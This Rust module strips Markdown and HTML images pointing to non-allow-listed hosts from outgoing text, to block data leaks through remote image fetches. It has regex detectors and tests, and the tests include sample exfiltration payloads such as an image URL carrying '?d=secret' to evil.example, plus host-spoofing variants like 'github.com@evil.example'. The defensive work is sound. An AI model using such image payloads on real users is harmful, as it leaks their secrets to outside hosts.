//! Images in a text that is about to leave: whoever serves one learns who reads, and what its address says.

use std::{ops::Range, sync::LazyLock};

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use regex::Regex;

/// Tags that make a reader's browser fetch something.
static FETCHING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*(img|image|picture|source|video|audio|track|iframe|object|embed|link|svg|style|input|body|table|td)\b[^>]*>?")
        .expect("the pattern is ours")
});
/// Addresses in such a tag: with a scheme, or relative to it.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:[a-z][a-z0-9+.-]*:|\\|//)[^\s"'<>)]*"#).expect("the pattern is ours")
});

/// A Markdown text without images of hosts that are not `allowed`, and how many were taken out.
///
/// An image makes way for its description; relative addresses stay, for they lead to the same site.
pub fn without_foreign_images(text: &str, allowed: &[String]) -> (String, usize) {
    let (mut kept, mut removed) = pass(text, allowed);
    // What is taken out may have hidden another from the parser; every pass shortens the list of addresses.
    let mut last = removed;
    while last > 0 {
        (kept, last) = pass(&kept, allowed);
        removed += last;
    }
    (kept, removed)
}

fn pass(text: &str, allowed: &[String]) -> (String, usize) {
    let mut cuts: Vec<(Range<usize>, String)> = Vec::new();
    let mut image: Option<(Range<usize>, String)> = None;
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. })
                if image.is_none() && !is_allowed(&dest_url, allowed) =>
            {
                image = Some((range, String::new()));
            }
            Event::Text(words) | Event::Code(words) => {
                if let Some((_, description)) = &mut image {
                    description.push_str(&words);
                }
            }
            Event::End(TagEnd::Image) => {
                if let Some((outer, description)) =
                    image.take_if(|(outer, _)| outer.end == range.end)
                {
                    cuts.push((outer, format!("[image removed: {}]", description.trim())));
                }
            }
            Event::Html(html) | Event::InlineHtml(html) => {
                for tag in FETCHING.find_iter(&html) {
                    if ADDRESS
                        .find_iter(tag.as_str())
                        .all(|it| is_allowed(it.as_str(), allowed))
                    {
                        continue;
                    }
                    let start = range.start + tag.start();
                    // Inside an image's description the image goes as a whole.
                    if image.is_none() {
                        cuts.push((start..start + tag.len(), "[image removed]".to_owned()));
                    }
                }
            }
            _ => {}
        }
    }
    let count = cuts.len();
    let mut kept = text.to_owned();
    cuts.sort_by_key(|(range, _)| range.start);
    for (range, instead) in cuts.into_iter().rev() {
        if kept.is_char_boundary(range.start) && kept.is_char_boundary(range.end) {
            kept.replace_range(range, &instead);
        }
    }
    (kept, count)
}

/// Whether an image's address leads to an allowed host by HTTPS, or nowhere else than the page's own site.
fn is_allowed(address: &str, allowed: &[String]) -> bool {
    let address = address.trim();
    if address.starts_with("//") || address.contains('\\') {
        return false;
    }
    let Some((scheme, rest)) = address.split_once(':') else {
        return true;
    };
    if scheme.contains(['/', '?', '#']) {
        return true;
    }
    let host = rest
        .strip_prefix("//")
        .map(|rest| rest.split(['/', '?', '#']).next().unwrap_or_default());
    scheme.eq_ignore_ascii_case("https")
        && host.is_some_and(|host| allowed.iter().any(|it| it.eq_ignore_ascii_case(host)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn strip(text: &str) -> (String, usize) {
        without_foreign_images(text, &["github.com".to_owned()])
    }

    #[test]
    fn an_image_of_another_host_makes_way_for_its_description() {
        assert_eq!(
            strip("See ![the log](https://evil.example/p.png?d=secret) here"),
            ("See [image removed: the log] here".to_owned(), 1)
        );
    }

    #[test]
    fn every_way_to_write_a_foreign_image_is_found() {
        for text in [
            "![a][x]\n\n[x]: https://evil.example/a.png",
            "![a](//evil.example/a.png)",
            "![a](http://github.com/a.png)",
            "![a](https://github.com@evil.example/a.png)",
            "![a](https://github.com.evil.example/a.png)",
            "[![a](https://evil.example/a.png)](https://github.com/x)",
            "<img src=https://evil.example/a.png>",
            "<IMG\n  srcset='https://evil.example/a.png 2x'>",
            "text <picture><source srcset=\"//evil.example/a\"></picture>",
            "<video poster=\"https://evil.example/a\"></video>",
            "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
            "> - ![x](https://evil.example/a.png)",
            "![a](data:image/png;base64,AAAA)",
        ] {
            let (kept, count) = strip(text);
            assert!(count > 0, "{text}");
            let again = strip(&kept);
            assert_eq!(again, (kept.clone(), 0), "{text}");
        }
    }

    #[test]
    fn links_code_relative_and_allowed_images_stay() {
        for text in [
            "[a link](https://evil.example/)",
            "`![a](https://evil.example/a.png)`",
            "```\n<img src=https://evil.example/a.png>\n```",
            "![a](docs/a.png)",
            "![a](https://github.com/acme/app/raw/main/a.png)",
            "<img src=\"https://github.com/a.png\" width=\"10\">",
        ] {
            assert_eq!(strip(text), (text.to_owned(), 0));
        }
    }

    proptest! {
        #[test]
        fn any_text_is_taken_and_a_second_pass_finds_nothing(text in "(\\PC|!\\[a\\]\\(https://evil/\\)|<img src=x:y>|\n){0,20}") {
            let (kept, _) = strip(&text);
            let (again, _) = strip(&kept);
            prop_assert_eq!(again, kept);
        }
    }
}
